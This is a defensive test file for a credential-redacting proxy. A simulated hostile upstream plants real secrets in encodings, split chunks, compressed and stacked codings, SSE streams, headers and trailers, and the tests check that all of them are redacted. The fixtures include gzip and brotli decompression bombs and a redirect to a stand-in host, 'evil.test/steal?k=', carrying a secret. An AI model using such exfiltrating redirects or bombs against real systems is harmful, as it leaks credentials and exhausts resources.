// Leak tests, inbound (THREATS 7, 9–15): a hostile upstream plants the real secrets in every
// place and encoding — body encodings, split at every offset, 1-byte chunks, every content
// coding (stacked, mislabelled, unknown, bombs), SSE over time, the status line, header names
// and values, interim responses, trailers — or dies mid-body. Every answer the agent gets
// (raw agent bytes or curl's output) is run through the independent leak oracle.

import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import zlib from "node:zlib";
import { redactionVariants } from "../../src/credentials/secret-variants.ts";
import { MAX_VIEW_TOKEN } from "../../src/matcher/views.ts";
import { HostileAgent } from "../support/hostile-agent.ts";
import { findLeaks, plantings, REALS, SECRETS } from "../support/hostile-oracle.ts";
import {
  chunk,
  type HostileUpstream,
  headBytes,
  sendChunked,
  sendLength,
  startHostileUpstream,
} from "../support/hostile-upstream.ts";
import { type Harness, harnessLoops, startHarness } from "../support/proxy-harness.ts";

let h: Harness;
let up: HostileUpstream;
let agent: HostileAgent;
let bound: string;

const A = Buffer.from(SECRETS.alpha.real, "latin1");
const B = Buffer.from(SECRETS.beta.real, "latin1");

beforeAll(async () => {
  h = await startHarness({
    credentials: [
      { ...SECRETS.alpha, hosts: ["bound.test:*"] },
      { ...SECRETS.beta, hosts: ["bound.test:*"] },
      { ...SECRETS.gamma, hosts: ["bound.test:*"] },
    ],
    allow: ["bound.test:*", "evil.test:*", "localhost:*"],
    names: ["bound.test", "evil.test"],
    env: { SLAPENIR_RATE_LIMIT: "off" },
  });
  up = await startHostileUpstream(
    await h.upstreamCa.issue(["bound.test", "evil.test", "localhost"]),
  );
  agent = new HostileAgent(h);
  bound = `bound.test:${up.port}`;
});

afterAll(async () => {
  await up?.stop();
  await h?.close();
});

const noLeak = (bytes: Buffer) => expect(findLeaks(bytes)).toEqual([]);

/** Every decompression of `body` that succeeds, so a forwarded coded body is checked too. */
function inflations(body: Buffer): Buffer[] {
  const out: Buffer[] = [];
  for (const f of [
    zlib.gunzipSync,
    zlib.inflateSync,
    zlib.inflateRawSync,
    zlib.brotliDecompressSync,
    zlib.zstdDecompressSync,
  ]) {
    try {
      out.push(f(body));
    } catch {}
  }
  return out;
}

const get = (path: string, headers: [string, string][] = []) =>
  agent.request(bound, "GET", path, headers);

describe("response bodies: every encoding of every real value", () => {
  for (const [i, real] of REALS.entries()) {
    for (const p of plantings(real)) {
      test(`secret#${i} as ${p.encoding}`, async () => {
        const body = Buffer.concat([Buffer.from("before "), p.text, Buffer.from(" after\n")]);
        up.on(`/enc/${i}/${p.encoding}`, (_r, w) =>
          sendLength(w, [["content-type", "text/plain"]], body),
        );
        const r = await get(`/enc/${i}/${p.encoding}`);
        expect(r.status).toBe(200);
        expect(r.complete).toBe(true);
        noLeak(r.raw);
        expect(r.body.toString("latin1")).toMatch(
          /REDACTED|W1JFREFDVEVEXQ|5245444143544544|52 45 44 41 43 54 45 44/i,
        );
      });
    }
  }
});

describe("split across chunk boundaries", () => {
  test("raw secret split at every offset into two chunks (with a pause between)", async () => {
    up.on("/split/", async (r, w) => {
      const k = Number(r.target.split("/")[2]);
      const body = Buffer.concat([Buffer.from("x".repeat(300)), A, Buffer.from("y".repeat(50))]);
      const cut = 300 + k;
      await sendChunked(w, [], [body.subarray(0, cut), body.subarray(cut)], [], 3);
    });
    for (let k = 1; k < A.length; k++) {
      const r = await get(`/split/${k}`);
      expect({ k, status: r.status, complete: r.complete }).toEqual({
        k,
        status: 200,
        complete: true,
      });
      noLeak(r.raw);
    }
  });

  test("every planting of both secrets in 1-byte chunks", async () => {
    const body = Buffer.concat([...REALS.flatMap((s) => plantings(s).map((p) => p.text))]);
    up.on("/bytes", (_r, w) =>
      sendChunked(
        w,
        [],
        Array.from({ length: body.length }, (_, i) => body.subarray(i, i + 1)),
      ),
    );
    const r = await get("/bytes");
    expect(r.status).toBe(200);
    expect(r.complete).toBe(true);
    noLeak(r.raw);
  });

  test("a stream that ends right after a secret (tail flushed through the matcher)", async () => {
    up.on("/tail", (_r, w) => sendLength(w, [], Buffer.concat([Buffer.from("t="), B]), 5));
    const r = await get("/tail");
    expect(r.body.toString("latin1")).toBe("t=[REDACTED]");
    noLeak(r.raw);
  });
});

describe("content codings", () => {
  const plain = Buffer.concat([
    Buffer.from("x".repeat(5000)),
    ...REALS.flatMap((s) => plantings(s).map((p) => p.text)),
    Buffer.from("z".repeat(5000)),
  ]);
  const codings: [string, string, Buffer][] = [
    ["gzip", "gzip", zlib.gzipSync(plain)],
    ["x-gzip", "x-gzip", zlib.gzipSync(plain)],
    ["deflate (zlib)", "deflate", zlib.deflateSync(plain)],
    ["deflate (raw)", "deflate", zlib.deflateRawSync(plain)],
    ["br", "br", zlib.brotliCompressSync(plain)],
    ["zstd", "zstd", zlib.zstdCompressSync(plain)],
    ["stacked gzip, br", "gzip, br", zlib.brotliCompressSync(zlib.gzipSync(plain))],
    [
      "stacked deflate, zstd, gzip",
      "deflate, zstd, gzip",
      zlib.gzipSync(zlib.zstdCompressSync(zlib.deflateSync(plain))),
    ],
    ["upper-case label", "GZIP", zlib.gzipSync(plain)],
  ];
  for (const [i, [name, label, bytes]] of codings.entries()) {
    test(`${name}: decoded, redacted, label removed`, async () => {
      up.on(`/coding/${i}/`, (_r, w) => sendLength(w, [["content-encoding", label]], bytes, 997));
      const r = await get(`/coding/${i}/`);
      expect(r.status).toBe(200);
      expect(r.complete).toBe(true);
      expect(r.head.toLowerCase()).not.toContain("content-encoding");
      noLeak(r.raw);
      expect(r.body.includes("[REDACTED]")).toBe(true);
    });
  }

  const broken: [string, string, Buffer][] = [
    ["labelled gzip, actually br", "gzip", zlib.brotliCompressSync(plain)],
    ["labelled br, actually identity", "br", plain],
    ["labelled zstd, actually gzip", "zstd", zlib.gzipSync(plain)],
    ["stacked in the wrong order", "br, gzip", zlib.brotliCompressSync(zlib.gzipSync(plain))],
    ["truncated gzip", "gzip", zlib.gzipSync(plain).subarray(0, 200)],
  ];
  for (const [i, [name, label, bytes]] of broken.entries()) {
    test(`${name}: the agent sees an error, never undecoded or unscanned bytes`, async () => {
      up.on(`/broken/${i}/`, (_r, w) => sendLength(w, [["content-encoding", label]], bytes));
      const r = await get(`/broken/${i}/`);
      // A body that fails to decode from its first bytes is answered 502 before any head is
      // sent; one that fails later (truncated) breaks the connection mid-body.
      if (name.startsWith("truncated")) expect(r.status === 502 || !r.complete).toBe(true);
      else expect({ status: r.status }).toEqual({ status: 502 });
      noLeak(r.raw);
      for (const inflated of inflations(r.body)) noLeak(inflated);
    });
  }

  for (const [i, label] of [
    "compress",
    "x-custom",
    "gzip;q=1",
    "identity, pack200-gzip",
  ].entries()) {
    test(`unknown coding "${label}": 502, nothing of the body forwarded`, async () => {
      up.on(`/unknown/${i}/`, (_r, w) =>
        sendLength(
          w,
          [
            ["content-encoding", label],
            ["set-cookie", `k=${A.toString()}`],
          ],
          plain,
        ),
      );
      const r = await get(`/unknown/${i}/`);
      expect(r.status).toBe(502);
      expect(r.body.includes("xxxxxxxx")).toBe(false);
      noLeak(r.raw);
    });
  }

  test("decompression bomb (gzip, ratio > 1000) is refused, not expanded", async () => {
    const bomb = zlib.gzipSync(Buffer.alloc(64 << 20, 0x61), { level: 9 });
    up.on("/bomb", (_r, w) => sendLength(w, [["content-encoding", "gzip"]], bomb));
    const r = await get("/bomb");
    expect(r.status === 502 || !r.complete).toBe(true);
    expect(r.body.length).toBeLessThan(16 << 20);
  });

  test("stacked bomb (br of gzip) is refused too", async () => {
    const bomb = zlib.brotliCompressSync(zlib.gzipSync(Buffer.alloc(64 << 20, 0x62)));
    up.on("/bomb2", (_r, w) => sendLength(w, [["content-encoding", "gzip, br"]], bomb));
    const r = await get("/bomb2");
    expect(r.status === 502 || !r.complete).toBe(true);
    expect(r.body.length).toBeLessThan(16 << 20);
  });
});

describe("server-sent events", () => {
  // What a redaction stream holds back of text with few escapes: the window of the bytes as
  // written (the longest pattern less one), then that of each decoded view, nested and flat
  // (the same, and a token that may not have ended; src/matcher/types.ts heldBackBound is the
  // worst case).
  const longest = Math.max(
    ...REALS.flatMap((s) => redactionVariants(s).variants.map((v) => v.pattern.length)),
  );
  const window = 3 * (longest - 1) + 2 * MAX_VIEW_TOKEN;

  test("events arrive as they are sent (no buffering beyond the held-back window), redacted", async () => {
    let agentGot = 0;
    const progress: (() => void)[] = [];
    const waitFor = async (n: number) => {
      while (agentGot < n) await new Promise<void>((r) => progress.push(r));
    };
    let sent = 0;
    up.on("/sse", async (_r, w) => {
      await w.write(
        headBytes(200, "OK", [
          ["content-type", "text/event-stream"],
          ["transfer-encoding", "chunked"],
        ]),
      );
      for (let i = 0; i < 5; i++) {
        const ev = Buffer.from(
          `id: ${i}\ndata: {"token":"${A.toString()}","n":${i}}\ndata: ${"p".repeat(400)}\n\n`,
        );
        await w.write(chunk(ev));
        sent += ev.length - A.length + "[REDACTED]".length;
        // The next event is only sent once the agent holds all but the held-back tail of this
        // one: if the proxy buffered more, this waits forever and the test times out.
        await waitFor(sent - window);
      }
      await w.write("0\r\n\r\n");
    });
    const s = await agent.tunnel(bound);
    const head = `GET /sse HTTP/1.1\r\nHost: ${bound}\r\nConnection: close\r\n\r\n`;
    let buf = Buffer.alloc(0);
    s.on("data", (d: Buffer) => {
      buf = Buffer.concat([buf, d]);
      const at = buf.indexOf("\r\n\r\n");
      if (at >= 0) {
        // Count de-chunked body bytes received so far.
        agentGot = countChunkedPayload(buf.subarray(at + 4));
        for (const p of progress.splice(0)) p();
      }
    });
    const r = await agent.send(s, head, { maxMs: 20_000 });
    expect(r.status).toBe(200);
    expect(r.complete).toBe(true);
    expect(r.body.toString().split("[REDACTED]").length).toBe(6);
    noLeak(r.raw);
  });

  test("a secret split across two events sent apart in time is still redacted", async () => {
    up.on("/sse-split", async (_r, w) => {
      await w.write(
        headBytes(200, "OK", [
          ["content-type", "text/event-stream"],
          ["transfer-encoding", "chunked"],
        ]),
      );
      await w.write(chunk(Buffer.concat([Buffer.from("data: "), A.subarray(0, 11)])));
      await w.sleep(150);
      await w.write(chunk(Buffer.concat([A.subarray(11), Buffer.from("\n\n")])));
      await w.write("0\r\n\r\n");
    });
    const r = await get("/sse-split");
    expect(r.body.toString()).toBe("data: [REDACTED]\n\n");
    noLeak(r.raw);
  });
});

describe("scanner failure", () => {
  // A Worker loop's matcher pool is out of this thread's reach: the one-loop pass runs it.
  test.skipIf(harnessLoops() > 1)(
    "the matcher worker dies mid-stream: the agent sees an error, nothing unscanned",
    async () => {
      let release!: () => void;
      const crashed = new Promise<void>((r) => {
        release = r;
      });
      up.on("/crash", async (_r, w) => {
        await w.write(headBytes(200, "OK", [["transfer-encoding", "chunked"]]));
        await w.write(chunk(`first ${A.toString()} ${"f".repeat(2000)}`));
        await crashed;
        for (let i = 0; i < 20; i++)
          await w.write(chunk(`more ${A.toString()} ${B.toString("base64")}\n`));
        await w.write("0\r\n\r\n");
      });
      const s = await agent.tunnel(bound);
      s.once("data", () => {
        h.proxy.pool!.crashWorkerForTest(0, "terminate");
        release();
      });
      const r = await agent.send(
        s,
        `GET /crash HTTP/1.1\r\nHost: ${bound}\r\nConnection: close\r\n\r\n`,
      );
      expect(r.status).toBe(200);
      expect(r.complete).toBe(false);
      noLeak(r.raw);
      // The pool replaced the worker: the next exchange is served and redacted.
      up.on("/after-crash", (_r, w) => sendLength(w, [], Buffer.from(`k=${A.toString()}`)));
      const next = await get("/after-crash");
      expect(next.body.toString()).toBe("k=[REDACTED]");
    },
  );
});

function countChunkedPayload(b: Buffer): number {
  let at = 0;
  let n = 0;
  for (;;) {
    const le = b.indexOf("\r\n", at);
    if (le < 0) return n;
    const size = Number.parseInt(b.subarray(at, le).toString(), 16);
    if (!size) return n;
    const avail = Math.min(size, b.length - (le + 2));
    n += avail;
    if (avail < size) return n;
    at = le + 2 + size + 2;
  }
}

describe("response heads", () => {
  test("Set-Cookie, Location on a 302 (not followed), WWW-Authenticate, custom fields", async () => {
    const before = up.received.length;
    up.on("/redirect", (_r, w) =>
      w.write(
        headBytes(302, "Found", [
          ["location", `https://evil.test/steal?k=${encodeURIComponent(B.toString("latin1"))}`],
          ["set-cookie", `s=${A.toString()}; Path=/; HttpOnly`],
          ["set-cookie", `t=${B.toString("base64")}`],
          ["www-authenticate", `Bearer realm="${A.toString()}", error="invalid_token"`],
          ["x-echo", `${A.toString("hex")} ${B.toString("base64url")}`],
          ["content-length", "0"],
        ]),
      ),
    );
    const r = await get("/redirect");
    expect(r.status).toBe(302);
    expect(r.head).toContain("location: https://evil.test/steal?k=%5BREDACTED%5D");
    expect(up.received.length).toBe(before + 1); // the proxy did not follow the redirect
    noLeak(r.raw);
  });

  test("a secret in the status line's reason phrase", async () => {
    up.on("/reason", (_r, w) =>
      w.write(
        Buffer.concat([
          headBytes(200, `OK ${A.toString()}`, [["content-length", "2"]]),
          Buffer.from("ok"),
        ]),
      ),
    );
    const r = await get("/reason");
    expect(r.status).toBe(200);
    noLeak(r.raw);
  });

  test("a secret as a response header name", async () => {
    up.on("/hname", (_r, w) =>
      w.write(
        Buffer.concat([
          headBytes(200, "OK", [
            [A.toString(), "1"],
            ["content-length", "2"],
          ]),
          Buffer.from("ok"),
        ]),
      ),
    );
    const r = await get("/hname");
    expect(r.status === 200 || r.status === 502).toBe(true);
    noLeak(r.raw);
  });

  test("interim 1xx responses carrying secrets are not forwarded", async () => {
    up.on("/early", async (_r, w) => {
      await w.write(
        headBytes(103, "Early Hints", [["link", `</x?k=${A.toString()}>; rel=preload`]]),
      );
      await w.write(
        Buffer.concat([headBytes(200, "OK", [["content-length", "2"]]), Buffer.from("ok")]),
      );
    });
    const r = await get("/early");
    expect(r.status).toBe(200);
    noLeak(r.raw);
  });

  test("HEAD: headers redacted, no body", async () => {
    up.on("/head", (_r, w) =>
      w.write(
        headBytes(200, "OK", [
          ["x-key", A.toString()],
          ["content-length", "1234"],
        ]),
      ),
    );
    const r = await agent.request(bound, "HEAD", "/head");
    expect(r.status).toBe(200);
    noLeak(r.raw);
  });

  test("trailers carrying secrets are dropped", async () => {
    up.on("/trailers", (_r, w) =>
      sendChunked(
        w,
        [["trailer", "x-sig"]],
        [Buffer.from("body")],
        [
          ["x-sig", A.toString()],
          ["x-sig2", B.toString("base64")],
        ],
      ),
    );
    const r = await get("/trailers");
    expect(r.status).toBe(200);
    expect(r.complete).toBe(true);
    expect(r.body.toString()).toBe("body");
    noLeak(r.raw);
  });
});

describe("upstream dies mid-body", () => {
  test("length-framed body cut short: curl reports an error (exit code ≠ 0)", async () => {
    up.on("/die-length", async (_r, w) => {
      await w.write(headBytes(200, "OK", [["content-length", "100000"]]));
      await w.write("a".repeat(5000));
      await w.sleep(20);
      w.destroy();
    });
    const r = await h.curl([`https://${bound}/die-length`]);
    // Small bodies of known length are held and scanned whole: the agent then gets a 502
    // with none of the partial body; larger ones break the connection (curl exits non-zero).
    expect(r.code !== 0 || (r.status === 502 && !r.body.includes("aaaa"))).toBe(true);
    noLeak(r.body);
  });

  test("large length-framed body (streamed, not held) cut short: curl exits non-zero", async () => {
    up.on("/die-length-large", async (_r, w) => {
      await w.write(headBytes(200, "OK", [["content-length", "4000000"]]));
      await w.write("a".repeat(300_000));
      await w.sleep(20);
      w.destroy();
    });
    const r = await h.curl([`https://${bound}/die-length-large`]);
    expect(r.code).not.toBe(0);
    noLeak(r.body);
  });

  test("chunked body cut mid-chunk, and cut inside a secret: raw agent sees no clean end", async () => {
    up.on("/die-chunked", async (_r, w) => {
      await w.write(headBytes(200, "OK", [["transfer-encoding", "chunked"]]));
      await w.write(chunk("a".repeat(300)));
      await w.write(`100\r\n${"b".repeat(20)}${A.toString()} ${A.subarray(0, 30).toString()}`);
      await w.sleep(20);
      w.destroy();
    });
    const r = await get("/die-chunked");
    expect(r.status).toBe(200);
    expect(r.complete).toBe(false);
    noLeak(r.raw);
    // The held-back window (here a 30-byte prefix of a real value) is not flushed raw.
    expect(r.raw.includes(A.subarray(0, 30))).toBe(false);
  });

  test("clean FIN before Content-Length is satisfied: error, not a short success", async () => {
    up.on("/die-fin", async (_r, w) => {
      await w.write(headBytes(200, "OK", [["content-length", "500"]]));
      await w.write("c".repeat(100));
      await w.end();
    });
    const r = await h.curl([`https://${bound}/die-fin`]);
    expect(r.code !== 0 || (r.status === 502 && !r.body.includes("cccc"))).toBe(true);
  });
});

describe("curl as the agent", () => {
  test("gzip body with every planting, curl --compressed: redacted", async () => {
    const body = Buffer.concat(REALS.flatMap((s) => plantings(s).map((p) => p.text)));
    up.on("/curl-gzip", (_r, w) =>
      sendLength(w, [["content-encoding", "gzip"]], zlib.gzipSync(body), 64),
    );
    const r = await h.curl(["--compressed", `https://${bound}/curl-gzip`]);
    expect(r.code).toBe(0);
    expect(findLeaks(Buffer.concat([Buffer.from(r.headers), r.body]))).toEqual([]);
    expect(r.body.includes("[REDACTED]")).toBe(true);
  });
});
